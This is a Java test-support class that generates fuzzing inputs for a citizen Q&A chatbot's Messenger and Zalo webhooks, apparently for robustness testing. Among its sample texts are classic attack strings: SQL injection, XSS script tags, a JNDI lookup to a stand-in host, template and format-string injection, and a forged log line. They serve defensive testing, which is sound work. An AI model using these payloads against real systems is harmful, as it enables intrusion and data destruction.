package vn.citizenqa.functions.testsupport;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import vn.citizenqa.functions.channel.JsonFields;
import vn.citizenqa.functions.channel.Signed;

/**
 * Generators of what anyone may post to a public page's webhook: real events of each kind, every field of them
 * given every other JSON type, texts built to break things, random and truncated bytes. Deterministic: callers pass
 * a seeded {@link Random}, so a failure names a case that can be run again.
 */
public final class HostileInputs {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private HostileInputs() {
    }

    /** A real event of a kind the webhook answers, and the route it goes to. */
    public record Sample(String name, String path, String json) {
        public boolean zalo() {
            return path.endsWith("zalo");
        }
    }

    /** One event of each answered kind, as the platforms send them, for a registered page. */
    public static List<Sample> samples(String page, String oa) {
        String now = Signed.NOW_MILLIS;
        String messengerItem = "{\"sender\":{\"id\":\"6543210987654321\"},\"recipient\":{\"id\":\"" + page + "\"},"
                + "\"timestamp\":" + now + ",";
        String zaloHead = "{\"app_id\":\"" + Signed.ZALO_APP_ID + "\",\"user_id_by_app\":\"552177279717587730\",";
        return List.of(
                new Sample("messenger-text", "/webhook/messenger", Signed.messengerText(page, "6543210987654321", "m_text",
                        "Đăng ký tạm trú cần giấy tờ gì?")),
                new Sample("messenger-quick-reply", "/webhook/messenger", messengerEnvelope(page, messengerItem
                        + "\"message\":{\"mid\":\"m_qr\",\"text\":\"Hữu ích\",\"quick_reply\":{\"payload\":\"Hữu ích\"}}}")),
                new Sample("messenger-postback", "/webhook/messenger", messengerEnvelope(page, messengerItem
                        + "\"postback\":{\"title\":\"Bắt đầu\",\"payload\":\"GET_STARTED\",\"mid\":\"m_pb\"}}")),
                new Sample("messenger-image", "/webhook/messenger", messengerEnvelope(page, messengerItem
                        + "\"message\":{\"mid\":\"m_img\",\"attachments\":[{\"type\":\"image\",\"payload\":"
                        + "{\"url\":\"https://scontent.xx.fbcdn.net/x.jpg\",\"sticker_id\":369239263222822}}]}}")),
                new Sample("zalo-text", "/webhook/zalo", Signed.zaloText(oa, "2468458835296197922", "z_text",
                        "Làm hộ chiếu mất bao lâu?")),
                new Sample("zalo-follow", "/webhook/zalo", "{\"app_id\":\"" + Signed.ZALO_APP_ID + "\",\"oa_id\":\"" + oa
                        + "\",\"user_id_by_app\":\"1\",\"event_name\":\"follow\",\"source\":\"oa_profile\","
                        + "\"follower\":{\"id\":\"6159\"},\"timestamp\":\"" + now + "\"}"),
                new Sample("zalo-image", "/webhook/zalo", zaloHead + "\"event_name\":\"user_send_image\","
                        + "\"sender\":{\"id\":\"2468458835296197922\"},\"recipient\":{\"id\":\"" + oa + "\"},"
                        + "\"message\":{\"msg_id\":\"z_img\",\"text\":\"xe bị lấy trộm ở đây\",\"attachments\":[{\"type\":"
                        + "\"image\",\"payload\":{\"url\":\"https://example.invalid/i.jpg\"}}]},\"timestamp\":\"" + now + "\"}"));
    }

    private static String messengerEnvelope(String page, String item) {
        return "{\"object\":\"page\",\"entry\":[{\"id\":\"" + page + "\",\"time\":" + Signed.NOW_MILLIS + ",\"messaging\":["
                + item + "]}]}";
    }

    /** Values of every JSON type, and of the types' awkward corners, to put where another type belongs. */
    public static List<JsonNode> wrongValues() {
        ObjectNode nestedObject = NODES.objectNode();
        nestedObject.putObject("id").putObject("id");
        ArrayNode mixed = NODES.arrayNode().add(1).add("a").addNull().add(NODES.objectNode());
        return List.of(
                NODES.nullNode(), NODES.booleanNode(true), NODES.numberNode(-1),
                NODES.numberNode(new java.math.BigInteger("123456789012345678901234567890")), NODES.numberNode(1.5),
                NODES.numberNode(new java.math.BigDecimal("1e999999999")), NODES.numberNode(new java.math.BigDecimal("-1e-999999999")),
                NODES.textNode(""), NODES.textNode("a#b"), NODES.textNode("x".repeat(3000)), NODES.textNode("\u0000\u202e\ud800"),
                NODES.arrayNode(), mixed, NODES.objectNode(), nestedObject);
    }

    /** A mutated copy of an event: one field (or array element) replaced. */
    public record Mutation(String path, JsonNode value, String json) {
    }

    /** Every node of the event, other than the root, replaced in turn by each of the values. */
    public static List<Mutation> mutations(String json, List<JsonNode> values) {
        JsonNode root = read(json);
        List<List<Object>> paths = new ArrayList<>();
        collectPaths(root, new ArrayList<>(), paths);
        List<Mutation> out = new ArrayList<>();
        for (List<Object> path : paths) {
            for (JsonNode value : values) {
                JsonNode copy = root.deepCopy();
                set(copy, path, value);
                out.add(new Mutation(path.toString(), value, JsonFields.write(copy)));
            }
        }
        return out;
    }

    private static void collectPaths(JsonNode node, List<Object> at, List<List<Object>> out) {
        if (node.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = node.properties().iterator(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> e = it.next();
                List<Object> p = new ArrayList<>(at);
                p.add(e.getKey());
                out.add(p);
                collectPaths(e.getValue(), p, out);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                List<Object> p = new ArrayList<>(at);
                p.add(i);
                out.add(p);
                collectPaths(node.get(i), p, out);
            }
        }
    }

    private static void set(JsonNode root, List<Object> path, JsonNode value) {
        JsonNode parent = root;
        for (Object step : path.subList(0, path.size() - 1)) {
            parent = step instanceof Integer i ? parent.get(i) : parent.get((String) step);
        }
        Object last = path.getLast();
        if (last instanceof Integer i) {
            ((ArrayNode) parent).set(i, value);
        } else {
            ((ObjectNode) parent).set((String) last, value);
        }
    }

    /**
     * Texts a citizen (or a bot) may send, each with a marker that must never come back in a reply: very long
     * ones, control and invisible characters, emoji only, mixed scripts, SQL, HTML and script, template injection,
     * unpaired surrogates, a forged log line.
     */
    public static Map<String, String> strangeTexts() {
        Random r = new Random(42);
        StringBuilder longWords = new StringBuilder();
        while (longWords.length() < 10_000) {
            longWords.append(List.of("đăng", "ký", "tạm", "trú", "ở", "đâu", "cần", "giấy", "tờ", "gì", "xin", "hỏi")
                    .get(r.nextInt(12))).append(' ');
        }
        java.util.LinkedHashMap<String, String> texts = new java.util.LinkedHashMap<>();
        texts.put("ten-thousand-characters", longWords.substring(0, 10_000));
        texts.put("one-word-of-ten-thousand", "a".repeat(10_000));
        texts.put("fifty-thousand-characters", longWords.toString().repeat(5));
        texts.put("control-characters", "tạm trú\u0000\u0001\u0007\u001b[31mĐỎ\u001b[0m\u007f\u0085 ở đâu");
        texts.put("zero-width", "tạm\u200Btrú\uFEFF cần\u2060 gì\u200D?");
        texts.put("emoji-only", "😀🙏🏻👨‍👩‍👧🚓🔥");
        texts.put("mixed-scripts", "Đăng ký tạm trú Привет 你好 مرحبا สวัสดี שלום Ελληνικά");
        texts.put("sql", "'; DROP TABLE citizen_qa; -- 1' OR '1'='1");
        texts.put("html-script", "<script>alert('xss')</script><img src=x onerror=alert(1)> tạm trú");
        texts.put("template-injection", "${jndi:ldap://evil.invalid/a} {{7*7}} %s%n%x");
        texts.put("unpaired-surrogates", "\ud800 tạm trú \udfff cháy \ud83d");
        texts.put("bidi-override", "\u202eurt mạt ký gnăđ\u202c \u2066isolate\u2069");
        texts.put("forged-log-line", "xin chào\nSEVERE citizenqa.security: admin logged in\r\nWARNING forged");
        texts.put("invisible-only", "\u200B\u200B\uFEFF\u2060");
        return texts;
    }

    /** Random bytes, or random JSON-like text, of up to {@code max} bytes. */
    public static byte[] randomBody(Random r, int max) {
        int n = r.nextInt(max + 1);
        if (r.nextBoolean()) {
            byte[] b = new byte[n];
            r.nextBytes(b);
            return b;
        }
        String alphabet = "{}[]\":,0123456789-+.eE truefalsnul\\u00ađ\"\"objectentrymessagingtext";
        StringBuilder s = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            s.append(alphabet.charAt(r.nextInt(alphabet.length())));
        }
        return s.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** A JSON value nested {@code depth} deep, inside an otherwise plausible Messenger body. */
    public static String nested(int depth, boolean objects) {
        String open = objects ? "{\"a\":" : "[";
        String close = objects ? "}" : "]";
        return "{\"object\":\"page\",\"entry\":" + open.repeat(depth) + "1" + close.repeat(depth) + "}";
    }

    private static JsonNode read(String json) {
        try {
            return JsonFields.read(json);
        } catch (java.io.IOException e) {
            throw new IllegalArgumentException(e);
        }
    }
}
